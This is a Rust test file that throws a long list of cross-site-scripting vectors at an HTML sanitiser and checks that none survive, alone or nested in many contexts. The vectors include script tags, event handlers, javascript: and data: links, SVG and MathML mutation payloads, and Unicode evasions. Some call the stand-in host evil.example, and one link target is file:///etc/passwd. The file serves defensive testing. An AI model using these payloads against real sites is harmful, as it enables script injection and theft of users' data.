//! Hostile input of our own writing. Each vector is rendered alone and inside
//! everything that can hold it, and each is also thrown at the second wall
//! alone, as if the first had let it through.

use super::checker::{assert_safe, only_allowed_tokens};
use crate::sanitise::sanitise;

/// HTML that runs or fetches something, or tries to.
const RAW_HTML: &[&str] = &[
    // Scripts, whole and broken.
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script\n>steal()</script\n>",
    "<script/x>steal()</script>",
    "<script>steal()",
    "</script><script>steal()</script>",
    "<<script>steal();//<</script>",
    "<script type=module>import('//evil.example')</script>",
    "<script\u{0c}>steal()</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
    // Event handlers.
    "<img src=x onerror=steal()>",
    "<img src=\"x\" OnErRoR = 'steal()'>",
    "<img/src=x/onerror=steal()>",
    "<img src=x onerror\n=\nsteal()>",
    "<img src=x:x onerror=&#115;teal()>",
    "<body onload=steal()>",
    "<div onmouseover=\"steal()\">over</div>",
    "<p onclick=steal()>click</p>",
    "<a href=\"https://a.example\" onfocus=steal() autofocus>x</a>",
    "<details open ontoggle=steal()>x</details>",
    "<video><source onerror=steal()></video>",
    "<audio src=x onerror=steal()></audio>",
    "<marquee onstart=steal()>x</marquee>",
    "<input onfocus=steal() autofocus>",
    "<select onfocus=steal() autofocus></select>",
    "<textarea onfocus=steal() autofocus></textarea>",
    "<b style=\"animation-name:x\" onanimationstart=steal()>x</b>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=steal()>x</p>",
    // Addresses that run.
    "<a href=\"javascript:steal()\">x</a>",
    "<a href=\"jav&#x09;ascript:steal()\">x</a>",
    "<a href=\"&#106;&#97;vascript&colon;steal()\">x</a>",
    "<a href=\" \u{1}javascript:steal()\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href='javascript:steal()' href='https://a.example'>x</a>",
    "<a xlink:href=\"javascript:steal()\">x</a>",
    "<area href=\"javascript:steal()\">",
    // Frames, objects, forms, documents.
    "<iframe src=\"javascript:steal()\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;steal()&lt;/script&gt;\"></iframe>",
    "<frameset onload=steal()><frame src=x></frameset>",
    "<object data=\"data:text/html,x\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<applet code=x></applet>",
    "<form action=\"javascript:steal()\"><button>x</button></form>",
    "<form id=f></form><button form=f formaction=\"javascript:steal()\">x</button>",
    "<isindex action=javascript:steal() type=image>",
    "<input type=image src=x formaction=javascript:steal()>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:steal()\">",
    "<meta charset=utf-7>",
    "<link rel=stylesheet href=\"//evil.example/x.css\">",
    "<link rel=import href=\"//evil.example/x.html\">",
    "<html><head><title>x</title></head><body>y</body></html>",
    "<!DOCTYPE html><plaintext>x",
    "<portal src=\"https://evil.example\"></portal>",
    // Styles and remote pictures.
    "<style>body{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<p style='width:expression(steal())'>x</p>",
    "<img srcset=\"//evil.example/a 1x, //evil.example/b 2x\">",
    "<picture><source srcset=//evil.example/a><img></picture>",
    "<table background=\"//evil.example/x\"><tr><td>x</td></tr></table>",
    "<video poster=\"//evil.example/x\"></video>",
    "<input type=image src=\"//evil.example/x\">",
    "<body background=//evil.example/x>",
    "<a href=\"https://a.example\" ping=\"//evil.example/x\">x</a>",
    // SVG and MathML, and their ways in and out of HTML.
    "<svg onload=steal()></svg>",
    "<svg><script>steal()</script></svg>",
    "<svg><script href=\"data:,steal()\"/></svg>",
    "<svg><a xlink:href=\"javascript:steal()\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:steal() /><a id=x></a></svg>",
    "<svg><set attributeName=onload to=steal() /></svg>",
    "<svg><use href=\"//evil.example/x.svg#y\"/></svg>",
    "<svg><image href=\"//evil.example/x.png\"/></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=steal()>\">",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<svg><desc><noembed></desc></noembed><img src=x onerror=steal()></svg>",
    "<svg><title><![CDATA[</title><script>steal()</script>]]></svg>",
    "<math><a xlink:href=\"javascript:steal()\">x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=steal()>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>steal()</script></annotation-xml></math>",
    "<math><mi><table><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror=steal()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=steal()>",
    // Mutation: text that turns into markup when it is parsed again.
    "<noscript><style></noscript><img src=x onerror=steal()>",
    "<template><script>steal()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=steal()></template>",
    "<textarea></textarea><script>steal()</script>",
    "<title></title><img src=x onerror=steal()>",
    "<xmp><p title=\"</xmp><img src=x onerror=steal()>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=steal()>\">",
    "<listing>&lt;img src=x onerror=steal()&gt;</listing>",
    "<plaintext><img src=x onerror=steal()>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=steal()>\">",
    "<p id=x name=getElementById>clobber</p>",
    "<a id=cove><a id=cove name=config href=https://evil.example>x</a>",
    "<img name=body><form name=querySelector></form>",
    "<slot name=x></slot><custom-element onclick=steal()></custom-element>",
    // Comments, declarations, sections.
    "<!--><img src=x onerror=steal()>-->",
    "<!-- --!><img src=x onerror=steal()> -->",
    "<!--[if IE]><script>steal()</script><![endif]-->",
    "<![CDATA[<img src=x onerror=steal()>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=steal()>",
    "<?php echo '<script>steal()</script>' ?>",
    "<!ENTITY x \"<script>steal()</script>\">",
    // Unclosed and misquoted.
    "<img src=x onerror=steal()//",
    "<img src=\"x` `<script>steal()</script>\"` `>",
    "<img \"\"\"><script>steal()</script>\">",
    "<a href=\"https://a.example\" title='\"><img src=x onerror=steal()>'>x</a>",
    "<a href=https://a.example/\"onmouseover=steal()>x</a>",
    "<p title=`><img src=x onerror=steal()>`>x</p>",
    "<table><td><img src=x onerror=steal()",
    "</p></div></main></body></html><script>steal()</script>",
    "<div></div></div></div><h1>mine now</h1>",
    // Letters that are not what they seem.
    "\u{ff1c}script\u{ff1e}steal()\u{ff1c}/script\u{ff1e}",
    "<\u{0}script>steal()</script>",
    "<scr\u{ad}ipt>steal()</scr\u{ad}ipt>",
    "<\u{200b}script>steal()</script>",
    "<img src=x one\u{200d}rror=steal()>",
    "<\u{17f}cript>steal()</\u{17f}cript>",
    "+ADw-script+AD4-steal()+ADw-/script+AD4-",
    "\u{202e}<script>steal()</script>\u{202c}",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "&#60;img src=x onerror=steal()&#62;",
    "&#x3c&#x69mg src=x onerror=steal()&#x3e",
    "&amp;lt;script&amp;gt;steal()&amp;lt;/script&amp;gt;",
];

/// The vector where a member might put it.
fn in_every_place(vector: &str) -> Vec<String> {
    vec![
        vector.to_owned(),
        format!("Words before {vector} and after"),
        format!("<blockquote>{vector}</blockquote>"),
        format!("<ul><li>one</li><li>{vector}<ul>{vector}</ul></ul>"),
        format!("<ol start={vector}><li value={vector}>{vector}"),
        format!("<h3>{vector}</h3><em>{vector}</em> <strong>{vector}"),
        format!("<a href=\"https://a.example\">{vector}</a>"),
        format!("<a href=\"{vector}\">x</a>"),
        format!("<a href='https://a.example/{vector}'>x</a>"),
        format!("<pre><code>{vector}</code></pre><code>{vector}</code>"),
        format!("<table><tr><th>{vector}<td>{vector}</table>"),
        format!("<table>{vector}<tr>{vector}<td>x"),
        format!("https://a.example/{vector}"),
        format!("<{vector}>"),
        format!("<div>{vector}<p>{vector}"),
        format!("<svg><style>{vector}</style>{vector}"),
        format!("<math><mtext><table><mglyph>{vector}"),
        format!("<!--{vector}--><![CDATA[{vector}]]>"),
        vector.replace('<', "&lt;"),
        format!("{vector}{vector}"),
    ]
}

#[test]
fn no_vector_gets_through_anywhere() {
    assert!(RAW_HTML.len() >= 80, "{}", RAW_HTML.len());
    for vector in RAW_HTML {
        for source in in_every_place(vector) {
            assert_safe(&source);
        }
    }
}

#[test]
fn what_is_typed_is_shown_as_the_text_it_is() {
    for vector in RAW_HTML
        .iter()
        .filter(|vector| vector.is_ascii() && !vector.contains(['\u{1}', '\u{c}', '\0']))
    {
        let typed = super::typed_body(vector, 10_000).unwrap();
        let shown: String = super::checker::text_of(&typed.html)
            .split_whitespace()
            .collect();
        let meant: String = vector.split_whitespace().collect();
        assert!(shown.contains(&meant), "{vector:?} was shown as {shown:?}");
    }
}

#[test]
fn ammonia_alone_lets_nothing_run() {
    for vector in RAW_HTML {
        for html in in_every_place(vector) {
            let clean = sanitise(&html);
            // Its elements are more than ours; what it leaves of an address is
            // judged when the link is written.
            let faults = only_allowed_tokens(&clean).err().unwrap_or_default();
            let is_harmless = faults.split("; ").all(|fault| {
                [
                    "",
                    "element b",
                    "element i",
                    "element h",
                    "element div",
                    "element t",
                    "href=",
                    "start=",
                    "type=",
                ]
                .iter()
                .any(|known| {
                    if known.is_empty() {
                        fault.is_empty()
                    } else {
                        fault.starts_with(known)
                    }
                })
            });
            assert!(is_harmless, "{faults}\nfrom {html:?}\ncame {clean}");
        }
    }
}

#[test]
fn refused_links_keep_their_label_and_make_no_link() {
    for href in [
        "javascript:steal()",
        "jav&#x09;ascript:steal()",
        " &#1;javascript:steal()",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
    ] {
        let html = assert_safe(&format!("<a href=\"{href}\">x</a>")).html;
        assert_eq!(html, "<p>x</p>", "{href}");
    }
}
